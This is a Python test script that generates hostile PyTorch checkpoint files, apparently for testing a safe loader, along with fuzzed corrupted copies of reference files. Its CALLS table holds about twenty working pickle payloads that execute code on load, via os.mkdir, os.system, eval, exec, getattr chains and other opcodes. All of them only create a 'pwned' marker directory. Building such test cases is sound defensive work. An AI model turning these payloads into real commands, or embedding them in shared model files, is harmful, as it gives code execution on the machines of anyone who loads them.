# SPDX-License-Identifier: Apache-2.0
"""Makes hostile checkpoints, and shows that their pickles are hostile.

    python tests/hostile/make.py FOLDER [SEED [COUNT]]   writes files
    python tests/hostile/make.py --prove                 runs each call in Python

FOLDER gets one torch zip file and one legacy file for each way in which a
pickle can make Python call a function, and COUNT (100) files made from the
golden ones by cutting, flipping, copying and overwriting bytes.  The same SEED
(1) makes the same files.  No torch is needed.

A call makes the directory `pwned` below the working directory: whoever reads
such a file and finds `pwned` afterwards has run it.
"""

import io
import os
import pickle
import random
import struct
import subprocess
import sys
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
GOLDEN = os.path.join(os.path.dirname(HERE), "golden")
MAGIC = 0x1950A86A20F9469CFC6C

# ---- calls --------------------------------------------------------------------

MKDIR = b"cos\nmkdir\n"
MKDIR_BY_NAME = b"\x8c\x02os\x8c\x05mkdir\x93"
SYSTEM = b"cos\nsystem\n"

CALLS = {
    "reduce": MKDIR + b"(S'pwned'\ntR.",
    "reduce-binary": b"\x80\x02" + MKDIR + b"X\x05\0\0\0pwned\x85R.",
    "reduce-stack-global": b"\x80\x04" + MKDIR_BY_NAME + b"\x8c\x05pwned\x85R.",
    "reduce-framed": b"\x80\x04\x95\x16\0\0\0\0\0\0\0"
    + MKDIR_BY_NAME + b"\x8c\x05pwned\x85R.",
    "inst": b"(S'pwned'\nios\nmkdir\n.",
    "obj": b"(" + MKDIR + b"S'pwned'\no.",
    "system": SYSTEM + b"(S'mkdir pwned'\ntR.",
    "eval": b"c__builtin__\neval\n(S'__import__(\"os\").mkdir(\"pwned\")'\ntR.",
    "exec": b"c__builtin__\nexec\n(S'import os; os.mkdir(\"pwned\")'\ntR.",
    "getattr": b"c__builtin__\ngetattr\n(cos\npath\nS'os'\ntRp0\n0"
    b"c__builtin__\ngetattr\n(g0\nS'mkdir'\ntR(S'pwned'\ntR.",
    "dotted": b"\x80\x04\x8c\x02os\x8c\x0dpath.os.mkdir\x93\x8c\x05pwned\x85R.",
    "popped": MKDIR + b"(S'pwned'\ntR0N.",
    "pop-mark": b"N(" + MKDIR + b"(S'pwned'\ntR1.",
    "as-key": b"(" + MKDIR + b"(S'pwned'\ntRNd.",
    "in-set": b"c__builtin__\nset\n((" + MKDIR + b"(S'pwned'\ntRltR.",
    "in-hooks": b"(ccollections\nOrderedDict\n)RS'h'\n" + MKDIR + b"(S'pwned'\ntRsl.",
    "memo": MKDIR + b"p7\n0S'pwned'\np8\n0g7\n(g8\ntR.",
    "map": b"c__builtin__\nlist\n(c__builtin__\nmap\n("
    + MKDIR + b"(S'pwned'\nltRtR.",
    "build": b"ctypes\nSimpleNamespace\n)R}S'a'\n" + MKDIR + b"(S'pwned'\ntRsb.",
    "newobj-map": b"c__builtin__\nlist\n(c__builtin__\nmap\n("
    + MKDIR + b"(S'pwned'\nlt\x81tR.",
    "newobj-ex-map": b"c__builtin__\nlist\n(c__builtin__\nmap\n("
    + MKDIR + b"(S'pwned'\nlt}\x92tR.",
    "setstate": b"cfunctools\npartial\n(" + MKDIR + b"tR(" + MKDIR
    + b"(S'pwned'\nt}Ntb(tR.",
}


def prove():
    """Runs every pickle with Python's own unpickler: each must have its way."""
    bad = []
    for name, data in CALLS.items():
        with tempfile.TemporaryDirectory() as folder:
            program = "import pickle, sys; pickle.loads(sys.stdin.buffer.read())"
            subprocess.run(
                [sys.executable, "-c", program], input=data, cwd=folder, check=False,
                capture_output=True,
            )  # fmt: skip
            if not os.path.isdir(os.path.join(folder, "pwned")):
                bad.append(name)
    print(f"{len(CALLS) - len(bad)} of {len(CALLS)} pickles run code in Python")
    for name in bad:
        print(f"  {name} does not")
    return 1 if bad else 0


# ---- files --------------------------------------------------------------------


def torch_zip(data):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in (
            ("data.pkl", data), ("byteorder", b"little"), ("version", b"3\n"),
        ):  # fmt: skip
            archive.writestr(zipfile.ZipInfo("archive/" + name), content)
    return file.getvalue()


def legacy(data):
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = [pickle.dumps(part, 2) for part in (MAGIC, 1001, info)]
    return b"".join(head) + data + pickle.dumps([], 2)


def damage(rng, data):
    """Some damage of one kind, somewhere."""
    data = bytearray(data)
    kind = rng.choice(("cut", "flip", "copy", "number", "zeros", "insert"))
    at = rng.randrange(len(data))
    if kind == "cut":
        del data[at:]
    elif kind == "flip":
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    elif kind == "copy":
        part = data[at : at + rng.randint(1, 200)]
        to = rng.randrange(len(data))
        data[to : to + len(part)] = part
    elif kind == "number":
        number = rng.choice((0, 1, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF, rng.getrandbits(32)))
        data[at : at + 4] = struct.pack("<I", number)
    elif kind == "zeros":
        part = min(rng.randint(1, 64), len(data) - at)
        data[at : at + part] = bytes(part)
    else:
        data[at:at] = rng.randbytes(rng.randint(1, 64))
    return kind, bytes(data)


def write(folder, name, data):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data)


def make(folder, seed, count):
    os.makedirs(folder, exist_ok=True)
    for name, data in CALLS.items():
        write(folder, f"call-{name}.pt", torch_zip(data))
        write(folder, f"call-{name}-legacy.pt", legacy(data))
    rng = random.Random(seed)
    golden = sorted(name for name in os.listdir(GOLDEN) if name.endswith(".pt"))
    for i in range(count):
        name = rng.choice(golden)
        with open(os.path.join(GOLDEN, name), "rb") as file:
            kind, data = damage(rng, file.read())
        write(folder, f"damage-{i:04d}-{kind}-{name}", data)
    print(f"{2 * len(CALLS) + count} files in {folder}, seed {seed}")


def main():
    if sys.argv[1:] == ["--prove"]:
        return prove()
    if not 2 <= len(sys.argv) <= 4:
        print(__doc__, file=sys.stderr)
        return 2
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 1
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 100
    make(sys.argv[1], seed, count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
